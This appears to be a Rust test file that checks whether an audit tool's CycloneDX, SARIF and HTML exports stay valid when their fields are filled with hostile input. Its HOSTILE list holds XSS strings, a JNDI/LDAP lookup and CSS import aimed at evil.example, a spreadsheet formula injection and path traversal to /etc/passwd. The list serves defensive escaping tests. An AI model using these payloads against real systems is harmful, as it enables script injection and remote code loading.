//! What is exported, held against the published schemas and against the rules of each format: audits of the small code bases
//! and documents in `tests/fixtures/`, and made ones that hold anything.

use jsonschema::Validator;
use patchbay_engine::audit::{Audit, Evidence, EvidenceKind, Note, Skipped, Strength};
use patchbay_engine::export::{Format, html};
use patchbay_engine::markdown;
use proptest::prelude::*;
use scraper::Html;
use serde_json::Value;
use std::fs;
use std::path::{Path, PathBuf};
use valid::{CYCLONEDX, SARIF, check};

mod made;
mod tree;
mod valid;

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/fixtures")
}

/// Every audit that the fixtures give: of code and of documents.
fn audits() -> Vec<(String, Audit)> {
    let name = |path: &Path| path.file_name().unwrap().to_string_lossy().into_owned();
    let mut audits: Vec<(String, Audit)> = tree::cases().iter().map(|case| (name(case), tree::audit(case))).collect();
    // Some rules' code bases, each of another topic.
    for rule in ["PB001", "PB018", "PB024", "PB029", "PB037", "PB045", "PB051", "PB054"] {
        audits.push((rule.to_owned(), tree::audit(&fixtures().join("rules").join(rule).join("bad"))));
    }
    let mut documents: Vec<PathBuf> =
        fs::read_dir(fixtures().join("documents")).unwrap().map(|entry| entry.unwrap().path()).collect();
    documents.sort();
    for path in documents.iter().filter(|path| path.extension().is_some_and(|ending| ending == "md")) {
        let options = markdown::Options { name: name(path), date: String::new() };
        audits.push((name(path), markdown::read(&fs::read(path).unwrap(), &options).unwrap()));
    }
    assert!(audits.iter().any(|(_, audit)| !audit.findings.is_empty()) && audits.len() > 20);
    audits
}

/// Text that means something to one of the formats.
const HOSTILE: &[&str] = &[
    "</style><script>alert(1)</script>",
    "\"><img src=http://evil.example/x onerror=alert(1)>",
    "--><!-- <base href=//evil.example>",
    "=HYPERLINK(\"http://evil.example\")",
    "@import url(//evil.example)",
    "${jndi:ldap://evil.example}",
    "{{constructor}}",
    "a\u{202e}gpj.exe",
    "line\r\nbreak\0",
    "![x](http://evil.example/x.png) <iframe src=x>",
    "javascript:alert(1)",
    "&lt;b&gt;&#x0;",
    "]]>",
    "../../../etc/passwd",
    "c:\\windows",
    "🦀 ünï",
];

/// Puts hostile texts in the place of every text of an audit.
fn hostile(mut audit: Audit) -> Audit {
    let mut next = 0;
    let mut text = |at: &mut String| {
        *at = HOSTILE[next % HOSTILE.len()].to_owned() + at;
        next += 1;
    };
    [&mut audit.title, &mut audit.source.name, &mut audit.date, &mut audit.generator].into_iter().for_each(&mut text);
    for service in &mut audit.services {
        [&mut service.id, &mut service.name, &mut service.section, &mut service.purpose]
            .into_iter()
            .for_each(&mut text);
        let lists = [
            &mut service.env,
            &mut service.hosts,
            &mut service.images,
            &mut service.implementation,
            &mut service.aliases,
        ];
        lists.into_iter().flatten().for_each(&mut text);
        for client in &mut service.clients {
            [&mut client.name, &mut client.requirement, &mut client.version, &mut client.manifest]
                .into_iter()
                .for_each(&mut text);
        }
        for word in HOSTILE {
            service.evidence.push(Evidence {
                kind: EvidenceKind::Import,
                path: (*word).into(),
                line: 1,
                strength: Strength::Weak,
                excerpt: format!("x {word} y"),
                matched: (*word).into(),
            });
        }
    }
    for variable in &mut audit.env {
        [&mut variable.name, &mut variable.service, &mut variable.purpose].into_iter().for_each(&mut text);
        variable.read.iter_mut().for_each(|place| text(&mut place.path));
    }
    for endpoint in &mut audit.endpoints {
        [&mut endpoint.path, &mut endpoint.method, &mut endpoint.service, &mut endpoint.place.path]
            .into_iter()
            .for_each(&mut text);
        endpoint.events.iter_mut().for_each(&mut text);
    }
    for store in &mut audit.stores {
        [&mut store.name, &mut store.kind, &mut store.service, &mut store.place.path].into_iter().for_each(&mut text);
    }
    for finding in &mut audit.findings {
        [&mut finding.rule, &mut finding.severity, &mut finding.message, &mut finding.place.path]
            .into_iter()
            .for_each(&mut text);
    }
    for word in HOSTILE {
        let word = (*word).to_owned();
        audit.notes.push(Note { section: word.clone(), group: word.clone(), text: word.clone(), depth: 1 });
        audit.coverage.skipped.push(Skipped { path: word.clone(), reason: word });
    }
    audit
}

#[test]
fn exports_of_the_fixtures_are_valid() {
    for (name, audit) in audits() {
        check(&name, &audit);
    }
}

#[test]
fn exports_of_hostile_audits_are_valid() {
    for (name, audit) in audits() {
        check(&name, &hostile(audit));
    }
}

#[test]
fn a_schema_finds_what_is_wrong() {
    let bad = |validator: &Validator, text: &str| validator.is_valid(&serde_json::from_str(text).unwrap());
    assert!(!bad(&CYCLONEDX, r#"{"bomFormat":"CycloneDX","specVersion":"1.6","services":[{"endpoints":["a"]}]}"#));
    assert!(!bad(&CYCLONEDX, r#"{"bomFormat":"CycloneDX","specVersion":"1.6","metadata":{"timestamp":"today"}}"#));
    assert!(!bad(&SARIF, r#"{"version":"2.1.0","runs":[{"tool":{"driver":{}}}]}"#));
}

#[test]
fn a_report_tells_what_the_audit_holds() {
    let audits = audits();
    let (_, audit) = audits.iter().find(|(_, audit)| audit.findings.len() > 1 && audit.services.len() > 1).unwrap();
    let text = Html::parse_document(&html::write(audit)).root_element().text().collect::<String>();
    let told = audit.services.iter().map(|service| &service.name).chain(audit.env.iter().map(|one| &one.name));
    for one in told.chain(audit.findings.iter().map(|finding| &finding.message)) {
        assert!(text.contains(one.as_str()), "the report lacks {one:?}");
    }
}

#[test]
fn two_audits_have_two_serial_numbers_and_one_has_one() {
    let serial = |audit: &Audit| {
        let bom: Value = serde_json::from_str(&Format::CycloneDx.write(audit)).unwrap();
        bom["serialNumber"].as_str().unwrap().to_owned()
    };
    let (a, mut b) = (Audit { title: "a".into(), ..Audit::default() }, Audit { title: "a".into(), ..Audit::default() });
    assert_eq!(serial(&a), serial(&b));
    b.date = "2026-02-12".into();
    assert_ne!(serial(&a), serial(&b));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn exports_of_made_audits_are_valid(audit in made::audit()) {
        check("made", &audit);
        check("made and hostile", &hostile(audit));
    }
}
